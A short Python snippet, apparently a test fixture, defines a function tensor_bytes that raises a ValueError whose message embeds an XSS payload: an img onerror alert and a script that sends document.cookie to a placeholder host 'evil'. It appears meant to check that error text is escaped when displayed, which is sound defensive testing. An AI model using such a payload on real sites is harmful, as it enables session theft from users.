# Raises an error with a script in its text.
# earns: 0
# %% tensor_bytes
def tensor_bytes(x):
    raise ValueError("<img src=x onerror=alert(1)><script>document.location='http://evil/'+document.cookie</script>")
